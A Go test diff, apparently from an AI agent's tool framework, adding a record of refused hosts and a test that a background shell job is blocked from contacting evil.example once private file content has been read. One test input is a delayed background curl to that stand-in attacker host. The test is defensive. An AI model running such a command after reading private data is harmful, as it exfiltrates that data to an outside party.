@@ -6,6 +6,7 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -89,8 +90,16 @@ func TestProgramsOfAProjectSpeakToNamedHostsOnly(t *testing.T) {
 // oneJob is the background work of a conversation that has one job at a time.
 type oneJob struct {
 	tools.Jobs
-	home *persistence.Home
-	is   *background.Running
+	home    *persistence.Home
+	is      *background.Running
+	mu      sync.Mutex
+	refused []string
+}
+
+func (j *oneJob) Refused(id, host string) {
+	j.mu.Lock()
+	defer j.mu.Unlock()
+	j.refused = append(j.refused, id+" "+host)
 }
 
 func (j *oneJob) Start(_ context.Context, wish tools.JobWish) (tools.Job, error) {
@@ -145,6 +154,18 @@ func TestAJobIsHeldToHosts(t *testing.T) {
 	text := end()
 	if got := p.reached(); got != "registry.npmjs.org/ok" || !strings.Contains(text, "tried to contact evil.example:80") || !strings.Contains(text, "after read_file brought in") {
 		t.Errorf("%q was reached, and the job put out %s", got, text)
+	}
+	if got := strings.Join(job.refused, ", "); got != job.is.Job.ID+" evil.example:80" {
+		t.Errorf("the table of jobs knows of %s", got)
+	}
+	env.Known = &tools.KnownHosts{}
+	p.call(t, env, shell.Tools(), "run_command", `{"command":"until test -e go; do sleep 0.01; done; curl -s http://evil.example/later","background":true}`)
+	env.Known.AddTaint("read_file")
+	if err := os.WriteFile(env.Root+"/go", nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if text = end(); p.reached() != "" || !strings.Contains(text, "tried to contact evil.example:80") {
+		t.Errorf("a job that began before private text spoke, and put out %s", text)
 	}
 	asked := make(chan tools.Inquiry, 1)
 	env.Tainted, env.Person = "read_file", true
